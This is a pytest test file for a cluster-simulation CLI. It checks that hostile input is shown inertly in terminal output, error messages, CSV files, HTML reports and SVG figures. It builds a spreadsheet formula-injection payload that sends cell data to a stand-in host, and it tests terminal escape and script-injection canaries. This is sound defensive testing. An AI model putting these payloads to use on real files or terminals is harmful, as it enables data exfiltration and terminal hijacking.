"""Texts of somebody who means harm are inert wherever they are shown: terminal, page, spreadsheet, figure, document."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import shutil
import subprocess
import sys
import time
import xml.etree.ElementTree
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from faults.hostile import EVIL, OBEYED, claim

from clustersim.cli import cli
from clustersim.cli.options import progress_bar, spinner
from clustersim.studies.claims.judge import check_claim
from clustersim.studies.sweeps.results_table import FORMULA
from clustersim.studies.timing.table_file import COLUMNS
from clustersim.views.claim_table import claim_view
from clustersim.views.console import plain_text

STYLE = re.compile(r"\x1b\[[0-9;?]*[a-zA-Z]")  # what rich writes itself: colours, and a bar drawn anew
OURS = "verdict: impossible  (use impossible)"


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.yaml").write_text(yaml.safe_dump(claim()), encoding="utf-8")
    return tmp_path


def invoke(*arguments: str) -> Result:
    return CliRunner().invoke(cli, list(arguments))


def harm_in(text: str) -> list[str]:
    """The characters that a terminal would obey."""
    return [character for character in OBEYED if character in text]


def verdicts(shown: str) -> list[str]:
    return [line for line in shown.splitlines() if line.startswith("verdict:")]


def test_the_verdict_is_ours_and_no_line_looks_like_it() -> None:
    result = invoke("check", "evil.yaml", "--output", "out", "--json")
    assert result.exit_code == 1
    assert harm_in(result.stdout) == []
    assert json.loads(result.stdout)["verdict"] == "impossible"
    assert harm_in(Path("out/claim.json").read_text(encoding="utf-8")) == []
    page = Path("out/claim.txt").read_text(encoding="utf-8")
    for shown in (page, invoke("check", "evil.yaml").stdout):
        assert harm_in(shown) == []
        assert "␛[2A" in shown, "it is shown"
        assert verdicts(shown) == [OURS]


def test_words_that_break_where_they_like_are_moved_in() -> None:
    judged = check_claim(claim("y"))
    for columns in range(20, 150):
        words = "x" + " a" * (columns // 2) + " " * (columns % 2) + " verdict: supported"
        source = judged.claim.source.model_copy(update={"text": words, "who": words})
        mine = judged.claim.model_copy(update={"source": source, "name": words})
        assert verdicts(plain_text(claim_view(replace(judged, claim=mine)), 80)) == [OURS]


ERRORS: dict[str, tuple[Any, ...]] = {
    "a key": ("run", {EVIL: 1}),
    "a value": ("run", {"model": EVIL, "cluster": EVIL, "layout": {EVIL: EVIL}, "training": {"precision": EVIL}}),
    "a sweep": ("sweep", {"base": "gpt3_175b_a100", "points": {EVIL: [EVIL]}}),
    "a claim": ("check", {"name": EVIL, "source": {EVIL: EVIL}, "assert": [{"id": EVIL, "metric": EVIL}]}),
    "a serving scenario": ("serve", {"model": EVIL, EVIL: EVIL}),
}


@pytest.mark.parametrize("where", ERRORS)
def test_errors_show_what_they_quote(where: str, here: Path) -> None:
    command, document = ERRORS[where]
    (here / "wrong.yaml").write_text(yaml.safe_dump(document), encoding="utf-8")
    result = invoke(command, "wrong.yaml")
    assert result.exit_code == 2
    assert harm_in(result.stderr + result.stdout) == []
    first, *rest = result.stderr.splitlines()
    assert first.startswith(("wrong.yaml: ", "sweep wrong: "))
    assert all(line.startswith("  ") for line in rest), "no line of a stranger's begins as ours do"


@pytest.mark.parametrize(
    "arguments",
    [
        ["run", EVIL], ["run", "gpt3_175b_a100", "--set", f"{EVIL}=1"], ["run", "gpt3_175b_a100", "--set", EVIL],
        ["run", "gpt3_175b_a100", "--layout", EVIL], ["check", EVIL], ["sweep", EVIL],
        ["sweep", "gpt3_175b_a100", EVIL],
        ["show", EVIL], ["show", "models", EVIL], ["search", "gpt3_175b_a100", "--where", EVIL], ["validate", EVIL],
        ["calibrate", EVIL], ["plot", EVIL, "--x", EVIL], [EVIL], ["run", f"--{EVIL}"], ["schema", EVIL],
        ["plot", "curves", "evil.yaml", "--x", "x", "--where", EVIL],
        ["calibrate", "--chunks", EVIL, "gpt3_175b_a100"], ["calibrate", "--trace", EVIL, EVIL],
        ["calibrate", "--kernels", EVIL], ["calibrate", "--kernels", "evil.yaml", "--chip", EVIL, "--node", EVIL],
        ["validate", "--predictions", EVIL], ["measure", "--only", EVIL], ["measure", "--device", EVIL],
    ],
)  # fmt: skip
def test_words_of_the_command_line_are_shown_too(arguments: list[str]) -> None:
    result = invoke(*arguments)
    assert result.exit_code == 2
    assert harm_in(result.stderr + result.stdout) == []


def test_a_csv_file_and_a_log_are_quoted_inertly(here: Path) -> None:
    (here / "rows.csv").write_text(
        f"id,accelerator,seq_len,global_batch_seqs,n_devices,model\n{json.dumps(EVIL)},x,1,1,1,y\n", encoding="utf-8"
    )
    (here / "log.txt").write_text(f"iteration 1/ elapsed time per iteration (ms): 1.2{EVIL}\n", encoding="utf-8")
    for arguments in (["validate", "rows.csv"], ["calibrate", "--log", "log.txt", "gpt3_175b_a100"]):
        result = invoke(*arguments)
        assert result.exit_code in (0, 2)
        assert harm_in(result.stderr + result.stdout) == []


def test_tables_of_timings_are_quoted_inertly(here: Path) -> None:
    """A chunk, a kernel, an id of another tool: each with a stranger's words in every cell."""
    evil = json.dumps(EVIL)
    files = {
        "chunks.csv": f"chunk,seconds,group,bytes\n{evil},{evil},{evil},{evil}\n",
        "kernels.csv": f"{','.join(COLUMNS)}\na,b,{evil},gemm,{evil},{evil},{evil},bf16,{evil},TFLOP/s\n",
        "other.csv": f"id,step_time_s,low,high\n{evil},{evil},{evil},{evil}\n",
        "trace.json": json.dumps({"traceEvents": [{"ph": "X", "cat": "kernel", "name": EVIL, "dur": EVIL}]}),
    }
    for name, text in files.items():
        (here / name).write_text(text, encoding="utf-8")
    small = str(Path(__file__).parents[2] / "configs" / "calibration" / "llama3_8b_h100_8.yaml")
    for arguments in (
        ["calibrate", "--chunks", "chunks.csv", small],
        ["calibrate", "--trace", "trace.json", small],
        ["calibrate", "--kernels", "kernels.csv"],
        ["calibrate", "--kernels", "kernels.csv", "--chip", "a100-sxm-80gb"],
        ["validate", "--predictions", "other.csv"],
    ):
        result = invoke(*arguments)
        assert result.exit_code == 2
        assert harm_in(result.stderr + result.stdout) == []
        assert all(line.startswith("  ") for line in result.stderr.splitlines()[1:]), arguments


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_shows_words_as_they_are(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    stream = Terminal()
    monkeypatch.setattr(sys, "stderr", stream)
    with progress_bar(f"checking {EVIL}") as progress:
        progress(1, 3)
    with spinner(f"reading {EVIL}") as status:
        status(EVIL)
    drawn = stream.getvalue()
    assert "{task.completed}" in drawn
    assert harm_in(STYLE.sub("", drawn).replace("\r", "")) == []
    assert "owned\x07" not in drawn


@pytest.mark.parametrize("start", FORMULA)
def test_a_spreadsheet_gets_no_formula(start: str) -> None:
    """As CSV readers see it; spreadsheets take a cell for a formula by its first character."""
    formula = f'{start}HYPERLINK("http://x"&A1,"{EVIL}")'
    sweep = {"base": "gpt3_175b_a100", "name": "mine", "points": {"name": [formula, "fine"], "model.name": [formula]}}
    Path("mine.yaml").write_text(yaml.safe_dump(sweep), encoding="utf-8")
    assert invoke("sweep", "mine.yaml").exit_code == 0
    with Path("results/mine/results.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["name"] for row in rows] == [f"'{formula}", "fine"]
    for cell in (cell for row in rows for cell in row.values()):
        assert not cell.startswith(FORMULA) or re.fullmatch(r"[-+]?[\d.]+(e[-+]?\d+)?", cell)
    drawn = invoke("plot", "results/mine", "--x", "name", "--output", "names.svg")
    assert drawn.exit_code == 0, drawn.stderr
    xml.etree.ElementTree.parse("names.svg")
    chosen = invoke("plot", "results/mine", "--x", "devices", "--where", f"name={formula}", "-o", "one.svg")
    assert chosen.exit_code == 0 or start in "\t\r", (
        chosen.stderr
    )  # blanks around words of the command line don't count


def test_figures_and_pages_are_whole_documents() -> None:
    assert invoke("check", "evil.yaml", "--report", "evil.html").exit_code == 1
    page = Path("evil.html").read_text(encoding="utf-8")
    assert harm_in(page) == []
    assert "<script" not in page
    for picture in re.findall(r"<svg.*?</svg>", page, re.DOTALL):
        xml.etree.ElementTree.fromstring(picture)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("chromium") is None, reason="looks at the page in chromium, which isn't installed")
def test_nothing_runs_in_a_browser(here: Path) -> None:
    """The page's own policy forbids scripts; it is taken out, so that escaping must do alone."""
    invoke("check", "evil.yaml", "--report", "evil.html")
    page = Path("evil.html").read_text(encoding="utf-8")
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    assert bare != page
    canary = bare.replace("</body>", "<script>document.body.dataset.canary = 'ran'</script></body>")
    for name, text, ran in (("policy", page, False), ("bare", bare, False), ("canary", canary, True)):
        Path(f"{name}.html").write_text(text, encoding="utf-8")
        shown = subprocess.run(
            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={here}/browser",
             "--virtual-time-budget=2000", "--dump-dom", f"file://{here}/{name}.html"],
            capture_output=True, text=True, timeout=120, check=True,
        ).stdout  # fmt: skip
        title = re.search(r"<title>(.*?)</title>", shown, re.DOTALL)
        assert title is not None
        assert title[1].endswith("impossible")
        assert ('data-canary="ran"' in shown) == ran, "the browser does run scripts, where there are any"


def wait_for(condition: Any, seconds: float = 60.0) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if condition():
            return True
        time.sleep(0.1)
    return False


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("tmux") is None, reason="looks at a terminal through tmux, which isn't installed")
@pytest.mark.parametrize("command", ["check evil.yaml", "check evil.yaml --json", "run wrong.yaml"])
def test_a_real_terminal_shows_our_verdict(command: str, here: Path) -> None:
    """What stands on the screen in the end, after the terminal obeyed whatever it was sent."""
    (here / "wrong.yaml").write_text(yaml.safe_dump({EVIL: 1}), encoding="utf-8")
    program = shlex.quote(str(Path(sys.executable).with_name("clustersim")))
    tmux = ["tmux", "-S", str(here / "socket"), "-f", "/dev/null"]
    script = f"printf 'first line\\n'; {program} {command}; echo code $?; touch done; sleep 100"
    subprocess.run([*tmux, "new-session", "-d", "-x", "200", "-y", "2000", f"sh -c {shlex.quote(script)}"], check=True)
    try:
        assert wait_for((here / "done").exists)
        time.sleep(0.3)
        screen = subprocess.run([*tmux, "capture-pane", "-p"], capture_output=True, text=True, check=True).stdout
        title = subprocess.run(
            [*tmux, "display", "-p", "#{pane_title}"], capture_output=True, text=True, check=True
        ).stdout
    finally:
        subprocess.run([*tmux, "kill-server"], check=False)
    assert screen.startswith("first line\n"), "the screen wasn't cleared, nor the cursor moved up to it"
    assert "owned" not in title
    if command == "check evil.yaml":
        assert verdicts(screen) == [OURS]
        assert "code 1" in screen
    else:
        assert verdicts(screen) == []
    assert "␛[2A" in screen or "\\u001b[2A" in screen
